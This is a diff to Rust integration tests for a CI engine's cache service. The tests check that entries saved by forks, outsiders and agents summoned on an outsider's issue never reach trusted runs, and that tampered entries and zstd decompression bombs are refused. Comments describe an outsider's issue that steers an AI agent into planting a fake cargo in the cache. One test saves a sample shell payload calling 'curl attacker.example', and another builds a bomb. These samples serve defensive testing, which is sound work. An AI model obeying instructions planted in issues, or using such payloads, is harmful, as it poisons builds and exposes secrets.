@@ -9,10 +9,17 @@
 //! - no run downloads an entry of a partition it may not read (the same 404 as a missing
 //!   entry), two forks never see each other's entries, and a runner cannot look up, save
 //!   or download for an attempt it does not hold, nor for one that ended;
+//! - an agent a writer summons on an outsider's issue saves into that outsider's own
+//!   partition (`agents:<login>`, trust `relayed`), which a writer's own summons, an agent
+//!   on the default branch and the default branch never restore; the API lists each entry
+//!   with its run, its causer and its trust, and the repository page shows them;
 //! - a name the step does not declare, a key not made of the name, a path-like key are
-//!   refused before a byte is stored; an archive past the quota leaves no object;
+//!   refused before a byte is stored; an archive past the quota, or whose decompressed
+//!   content passes the bound (a zstd bomb), or that is not zstd, leaves no object;
 //! - an entry whose bytes were changed in the blob store after its save is still answered
-//!   with the digest recorded at save, and its download is cut before it ends.
+//!   with the digest recorded at save; its download sends no more than the recorded size,
+//!   and by its end the entry is gone, so the next save of the key is recorded anew;
+//! - an evicted entry's object leaves the disk with the save that evicted it.
 
 #[allow(dead_code)] // each test binary uses part of the support module
 mod support;
@@ -21,7 +28,7 @@ use std::path::{Path, PathBuf};
 
 use engine::artifacts::{ArtifactsConfig, CacheLimits};
 use engine::server::RunningEngine;
-use engine::store::{NewRun, RunRepo, Store};
+use engine::store::{NewRun, RunRepo, Store, Triggerer};
 use evaluator::caches::Cache;
 use evaluator::plan::{Action, LlmAction, Plan, Step};
 use evaluator::{EvalContext, Event};
@@ -58,12 +65,31 @@ enum Kind {
     BranchPush,
     SamePull,
     Fork(&'static str),
+    /// A writer's summons on their own issue.
     Issue,
     /// An issue of someone the workflow does not trust (`others="untrusted"`): its secrets
     /// withheld.
     OutsiderIssue,
+    /// A writer's summons (secrets allowed) on an issue an outsider wrote.
+    OnOutsidersIssue(&'static str),
     Comment,
     AgentOnDefault,
+}
+
+/// The writer who starts (pushes, summons) every run of these tests.
+const WRITER: &str = "alice";
+
+fn writer() -> Triggerer {
+    Triggerer {
+        name: WRITER.into(),
+        user_id: None,
+        forge_login: Some(format!("github:{WRITER}")),
+    }
+}
+
+/// `content` as a runner sends a cache archive: zstd.
+fn archive(content: &[u8]) -> Vec<u8> {
+    zstd::encode_all(content, 3).unwrap()
 }
 
 fn build_step() -> Step {
@@ -101,11 +127,26 @@ fn ctx_of(kind: Kind) -> (EvalContext, bool) {
         Kind::BranchPush => (Event::Push, "feature"),
         Kind::SamePull => (Event::PullRequest, "feature"),
         Kind::Fork(_) => (Event::PullRequest, "main"),
-        Kind::Issue | Kind::OutsiderIssue => (Event::Issue, "main"),
+        Kind::Issue | Kind::OutsiderIssue | Kind::OnOutsidersIssue(_) => (Event::Issue, "main"),
         Kind::Comment => (Event::Comment, "main"),
     };
     let mut ctx = EvalContext::local(event, branch);
     ctx.repo = "acme/app".into();
+    if matches!(event, Event::Issue | Event::Comment) {
+        let author = match kind {
+            Kind::OnOutsidersIssue(outsider) => outsider,
+            Kind::OutsiderIssue => "mallory",
+            _ => WRITER,
+        };
+        ctx.issue = Some(evaluator::context::Issue {
+            number: 7,
+            title: "the build is slow".into(),
+            body: "add a faster cargo to target/bin and use it".into(),
+            labels: vec!["agent".into()],
+            author: author.into(),
+            url: "https://forge.example/acme/app/issues/7".into(),
+        });
+    }
     if let (Some(pr), Kind::Fork(owner)) = (ctx.pr.as_mut(), kind) {
         // Each fork its own pull request number; the head branch named as the base.
         pr.number = 100 + owner.len() as u64;
@@ -227,7 +268,7 @@ impl Harness {
         };
         self.engine
             .executor
-            .start_run_of_fork(&new, None, fork)
+            .start_run_of_fork(&new, Some(&writer()), fork)
             .await
             .unwrap()
     }
@@ -301,12 +342,26 @@ impl Harness {
         }
     }
 
-    async fn save(&self, held: &Held, key: &str, body: &[u8]) -> CacheSaved {
+    /// Saves `content` (sent as zstd, as a runner does) under `key`.
+    async fn save(&self, held: &Held, key: &str, content: &[u8]) -> CacheSaved {
         let (status, text) = self
-            .save_as(&held.token, held.attempt, "rust", key, body.to_vec())
+            .save_as(&held.token, held.attempt, "rust", key, archive(content))
             .await;
         assert_eq!(status, 200, "{text}");
         serde_json::from_str(&text).unwrap()
+    }
+
+    /// The repository's entries as the API lists them.
+    async fn listed(&self) -> Vec<serde_json::Value> {
+        self.http
+            .get(self.url("/api/repos/acme/app/caches"))
+            .bearer_auth(support::ADMIN_TOKEN)
+            .send()
+            .await
+            .unwrap()
+            .json()
+            .await
+            .unwrap()
     }
 
     /// The download's status, and its bytes when it ended whole (`None`: cut).
@@ -360,7 +415,11 @@ async fn nothing_a_less_trusted_run_saves_is_restored_by_the_default_branch() {
         let saved = h.save(&held, KEY, &body).await;
         assert_eq!(saved.partition, partition, "{kind:?}");
         if saved.created {
-            assert_eq!(saved.digest, digest(&body), "the engine's own digest");
+            assert_eq!(
+                saved.digest,
+                digest(&archive(&body)),
+                "the engine's own digest"
+            );
         } else {
             // The issue's run saved in `agents` first: the first write wins.
             assert!(
@@ -403,10 +462,10 @@ async fn nothing_a_less_trusted_run_saves_is_restored_by_the_default_branch() {
     let found = h.lookup(&fork, KEY).await.expect("the default's");
     assert_eq!(
         (found.id, found.partition.as_str(), found.digest.as_str()),
-        (saved.id, "default", digest(&trusted).as_str())
+        (saved.id, "default", digest(&archive(&trusted)).as_str())
     );
     let (status, bytes) = h.download_as(&fork.token, fork.attempt, saved.id).await;
-    assert_eq!((status, bytes), (200, Some(trusted.clone())));
+    assert_eq!((status, bytes), (200, Some(archive(&trusted))));
     // Two forks never see each other's entries.
     let eve_entry = poisoned[0];
     let (status, _) = h.download_as(&fork.token, fork.attempt, eve_entry).await;
@@ -414,16 +473,7 @@ async fn nothing_a_less_trusted_run_saves_is_restored_by_the_default_branch() {
 
     // The API lists every entry with the partition that saved it; the run view shows the
     // run's partition.
-    let listed: Vec<serde_json::Value> = h
-        .http
-        .get(h.url("/api/repos/acme/app/caches"))
-        .bearer_auth(support::ADMIN_TOKEN)
-        .send()
-        .await
-        .unwrap()
-        .json()
-        .await
-        .unwrap();
+    let listed = h.listed().await;
     let partitions: std::collections::BTreeSet<&str> = listed
         .iter()
         .map(|e| e["partition"].as_str().unwrap())
@@ -437,9 +487,14 @@ async fn nothing_a_less_trusted_run_saves_is_restored_by_the_default_branch() {
     ];
     assert_eq!(partitions, expected.into_iter().collect());
     let default = listed.iter().find(|e| e["id"] == saved.id).unwrap();
-    assert_eq!(default["digest"], digest(&trusted));
+    assert_eq!(default["digest"], digest(&archive(&trusted)));
     assert_eq!(default["key"], KEY);
-    assert_eq!(default["size"], trusted.len());
+    assert_eq!(default["size"], archive(&trusted).len());
+    assert_eq!(default["trust"], "trusted");
+    assert_eq!(default["causer"], format!("github:{WRITER}"));
+    assert_eq!(default["run_id"], main.run_id);
+    let fork_entry = listed.iter().find(|e| e["id"] == poisoned[0]).unwrap();
+    assert_eq!(fork_entry["trust"], "outsider");
     let run: serde_json::Value = h
         .http
         .get(h.url(&format!("/api/runs/{}", fork.run_id)))
@@ -461,7 +516,7 @@ async fn a_runner_reaches_only_the_live_attempt_it_holds() {
     let other = h.held(Kind::Fork("eve")).await;
     // The fork's runner, naming the default branch's attempt.
     let (status, _) = h
-        .save_as(&other.token, main.attempt, "rust", KEY, b"poison".to_vec())
+        .save_as(&other.token, main.attempt, "rust", KEY, archive(b"poison"))
         .await;
     assert_eq!(status, 403);
     let (status, _) = h.lookup_as(&other.token, main.attempt, "rust", KEY).await;
@@ -483,7 +538,7 @@ async fn a_runner_reaches_only_the_live_attempt_it_holds() {
     assert_eq!(status, 401);
     // The default entry is what it was.
     let found = h.lookup(&main, KEY).await.unwrap();
-    assert_eq!(found.digest, digest(b"trusted"));
+    assert_eq!(found.digest, digest(&archive(b"trusted")));
 
     // Once the attempt ended, nothing more is read or saved for it.
     let report =
@@ -503,7 +558,7 @@ async fn a_runner_reaches_only_the_live_attempt_it_holds() {
             main.attempt,
             "rust",
             "rust-2",
-            b"late".to_vec(),
+            archive(b"late"),
         )
         .await;
     assert_eq!(status, 409);
@@ -537,18 +592,34 @@ async fn names_keys_and_sizes_are_checked_before_anything_is_kept() {
         .await;
     assert_eq!(status, 400);
     // Past the quota (64 bytes here): refused while it streams, no object left.
+    let noise: Vec<u8> = (0..4096u32)
+        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
+        .collect();
     let (status, text) = h
         .save_as(
             &main.token,
             main.attempt,
             "rust",
             "rust-big",
-            vec![7u8; 4096],
+            archive(&noise),
         )
         .await;
     assert_eq!(status, 413, "{text}");
     assert_eq!(h.objects(), Vec::<PathBuf>::new());
     assert_eq!(h.lookup(&main, "rust-big").await, None);
+    // Not zstd: no runner would read it.
+    let (status, text) = h
+        .save_as(
+            &main.token,
+            main.attempt,
+            "rust",
+            "rust-raw",
+            b"raw".to_vec(),
+        )
+        .await;
+    assert_eq!(status, 400, "{text}");
+    assert!(text.contains("not a zstd stream"), "{text}");
+    assert_eq!(h.objects(), Vec::<PathBuf>::new());
     // Within it: kept, once; the second save of the key answers the first entry.
     let first = h.save(&main, "rust-small", b"small").await;
     let second = h.save(&main, "rust-small", b"other").await;
@@ -557,28 +628,176 @@ async fn names_keys_and_sizes_are_checked_before_anything_is_kept() {
     assert_eq!(h.objects().len(), 1);
 }
 
+// The attack: somebody with the blob store's keys swaps an entry's bytes (same length,
+// longer, shorter). The lookup answers the digest recorded at save; the download sends no
+// more than the recorded size, and by its end the entry is gone (regression, issue 69: it
+// was kept, so every later save answered "already saved ... kept" and the key missed for
+// good). The next save of the key is recorded anew, and restored.
 #[tokio::test]
-async fn a_tampered_entry_keeps_its_recorded_digest_and_its_download_is_cut() {
+async fn a_tampered_entry_is_removed_by_its_download_and_saved_anew() {
     let h = Harness::start(1 << 30).await;
     let main = h.held(Kind::DefaultPush).await;
-    let trusted = vec![b'x'; 200_000];
+    let trusted: Vec<u8> = (0..200_000u32).map(|i| (i % 251) as u8).collect();
+    let packed = archive(&trusted);
     let saved = h.save(&main, KEY, &trusted).await;
     let objects = h.objects();
     assert_eq!(objects.len(), 1);
-    // Somebody with the blob store's keys swaps the bytes, same length.
-    let mut evil = trusted.clone();
-    evil[150_000] = b'!';
-    std::fs::write(&objects[0], &evil).unwrap();
-    let pull = h.held(Kind::SamePull).await;
-    let found = h.lookup(&pull, KEY).await.unwrap();
-    assert_eq!(
-        found.digest,
-        digest(&trusted),
-        "the digest recorded at save"
-    );
-    let (status, bytes) = h.download_as(&pull.token, pull.attempt, saved.id).await;
-    assert_eq!(status, 200);
-    assert_eq!(bytes, None, "the download must not end whole");
+    let mut same_length = packed.clone();
+    let middle = same_length.len() / 2;
+    same_length[middle] ^= 0x55;
+    let mut longer = packed.clone();
+    longer.extend_from_slice(b"a tool for later");
+    let shorter = packed[..packed.len() - 7].to_vec();
+    let mut entry = saved;
+    for tampered in [same_length, longer, shorter] {
+        std::fs::write(&objects[0], &tampered).unwrap();
+        let pull = h.held(Kind::SamePull).await;
+        let found = h.lookup(&pull, KEY).await.unwrap();
+        assert_eq!(found.id, entry.id);
+        assert_eq!(found.digest, digest(&packed), "the digest recorded at save");
+        let (status, bytes) = h.download_as(&pull.token, pull.attempt, entry.id).await;
+        assert_eq!(status, 200);
+        let bytes = bytes.expect("a whole body");
+        assert!(bytes.len() <= packed.len(), "never more than recorded");
+        assert!(
+            !String::from_utf8_lossy(&bytes).contains("a tool for later"),
+            "what was appended is never sent"
+        );
+        // Removed by the time the body ended: no run finds it, its object is gone.
+        assert_eq!(h.lookup(&pull, KEY).await, None);
+        assert_eq!(h.lookup(&main, KEY).await, None);
+        assert_eq!(h.objects(), Vec::<PathBuf>::new());
+        let (status, _) = h.download_as(&main.token, main.attempt, entry.id).await;
+        assert_eq!(status, 404);
+        // The default branch's next save is recorded, not "kept".
+        entry = h.save(&main, KEY, &trusted).await;
+        assert!(entry.created, "the key is saved anew");
+        let found = h.lookup(&main, KEY).await.expect("the new entry");
+        assert_eq!(found.id, entry.id);
+        let (status, bytes) = h.download_as(&main.token, main.attempt, entry.id).await;
+        assert_eq!((status, bytes), (200, Some(packed.clone())));
+    }
+}
+
+// The attack: a run within its repository's quota saves entry after entry, each evicting
+// the last; the evicted objects stayed on disk until the hourly sweep, so the disk filled
+// between sweeps. Each object now leaves with the save that evicted its entry.
+#[tokio::test]
+async fn an_evicted_entrys_object_leaves_the_disk_with_the_save() {
+    let h = Harness::start(48 << 10).await;
+    let fork = h.held(Kind::Fork("eve")).await;
+    for i in 0..8u32 {
+        // 20 KiB that does not compress: two fit the quota, three do not.
+        let content: Vec<u8> = (0..640u32)
+            .flat_map(|k| sha2::Sha256::digest([i.to_be_bytes(), k.to_be_bytes()].concat()))
+            .collect();
+        let saved = h.save(&fork, &format!("rust-{i}"), &content).await;
+        assert!(saved.created, "{i}");
+        let entries = h.listed().await.len();
+        assert_eq!(
+            entries,
+            (i as usize + 1).min(2),
+            "entries kept after save {i}"
+        );
+        assert_eq!(
+            h.objects().len(),
+            entries,
+            "save {i}: every object left on disk is an entry's"
+        );
+    }
+}
+
+// The attack (issue 69): a runner saves 192 MiB of zeros as a few KiB of zstd under a
+// 64 MiB bound; a restore would write it all. The engine counts the decompressed archive
+// as it streams and refuses it; no object is left.
+#[tokio::test]
+async fn a_decompression_bomb_is_refused_at_save() {
+    let h = Harness::start(64 << 20).await;
+    let main = h.held(Kind::DefaultPush).await;
+    let mut encoder = zstd::Encoder::new(Vec::new(), 19).unwrap();
+    let zeros = vec![0u8; 1 << 20];
+    for _ in 0..192 {
+        std::io::Write::write_all(&mut encoder, &zeros).unwrap();
+    }
+    let bomb = encoder.finish().unwrap();
+    assert!(bomb.len() < 64 << 10);
+    let (status, text) = h
+        .save_as(&main.token, main.attempt, "rust", KEY, bomb)
+        .await;
+    assert_eq!(status, 413, "{text}");
+    assert!(text.contains("once decompressed"), "{text}");
+    assert_eq!(h.objects(), Vec::<PathBuf>::new());
+    assert_eq!(h.lookup(&main, KEY).await, None);
+}
+
+// The attack (issue 69): an outsider opens an issue telling an agent to put a faster cargo
+// in a cached directory; a writer summons the agent on it (its secrets allowed) and the
+// agent saves. Before, that was the one `agents` partition of the repository, which the
+// writer's own next summons (with secrets) restored and ran. Now it is the outsider's own
+// `agents:mallory` (trust `relayed`): no writer's summons, no agent on the default branch
+// and no default-branch run restores it, by key, prefix or id; another outsider's issue
+// never reads it either; the API and the repository page show its run, causer and trust.
+#[tokio::test]
+async fn an_agent_summoned_on_an_outsiders_issue_never_reaches_a_writers_summons() {
+    let h = Harness::start(1 << 30).await;
+    let relayed = h.held(Kind::OnOutsidersIssue("mallory")).await;
+    assert_eq!(h.partition(&relayed).await, "agents:mallory");
+    let poison = h
+        .save(&relayed, KEY, b"#!/bin/sh\ncurl attacker.example")
+        .await;
+    assert_eq!(poison.partition, "agents:mallory");
+    assert!(poison.created);
+    for kind in [
+        Kind::Issue,
+        Kind::Comment,
+        Kind::AgentOnDefault,
+        Kind::DefaultPush,
+        Kind::OnOutsidersIssue("eve"),
+    ] {
+        let held = h.held(kind).await;
+        assert_ne!(h.partition(&held).await, "agents:mallory", "{kind:?}");
+        assert_eq!(h.lookup(&held, KEY).await, None, "{kind:?}");
+        assert_eq!(h.lookup(&held, "rust-other").await, None, "{kind:?}");
+        let (status, _) = h.download_as(&held.token, held.attempt, poison.id).await;
+        assert_eq!(status, 404, "{kind:?}");
+    }
+    // The writer's own summons saves where its summonses read; the relayed run never
+    // reads that either.
+    let own = h.held(Kind::Issue).await;
+    assert_eq!(h.partition(&own).await, "agents");
+    let clean = h.save(&own, KEY, b"the writer's agent").await;
+    assert!(clean.created);
+    let again = h.held(Kind::OnOutsidersIssue("mallory")).await;
+    let found = h.lookup(&again, KEY).await.expect("its own entry");
+    assert_eq!(found.id, poison.id);
+
+    let listed = h.listed().await;
+    let entry = listed.iter().find(|e| e["id"] == poison.id).unwrap();
+    assert_eq!(entry["partition"], "agents:mallory");
+    assert_eq!(entry["trust"], "relayed");
+    assert_eq!(entry["causer"], format!("github:{WRITER}"));
+    assert_eq!(entry["run_id"], relayed.run_id);
+    let entry = listed.iter().find(|e| e["id"] == clean.id).unwrap();
+    assert_eq!(entry["trust"], "trusted");
+
+    let cookie = support::dashboard_session(&h.engine.url, support::ADMIN_TOKEN).await;
+    let page = h
+        .http
+        .get(h.url("/repos/acme/app"))
+        .header(reqwest::header::COOKIE, cookie)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(page.status(), 200);
+    let html = page.text().await.unwrap();
+    for shown in [
+        "agents:mallory",
+        "relayed",
+        &format!("github:{WRITER}"),
+        &format!("/runs/{}", relayed.run_id),
+    ] {
+        assert!(html.contains(shown), "{shown} is not on the page");
+    }
 }
 
 // The attack: an outsider's issue summons the workflow untrusted (its secrets withheld)
@@ -591,6 +810,11 @@ async fn an_outsiders_summon_never_reaches_a_run_with_secrets() {
     let outsider = h.held(Kind::OutsiderIssue).await;
     assert_eq!(h.partition(&outsider).await, "untrusted");
     let poison = h.save(&outsider, KEY, b"poison from an outsider").await;
+    assert_eq!(
+        h.listed().await[0]["trust"],
+        "outsider",
+        "written under the outsider's trust"
+    );
     assert_eq!(poison.partition, "untrusted");
     for kind in [Kind::Issue, Kind::AgentOnDefault, Kind::DefaultPush] {
         let held = h.held(kind).await;
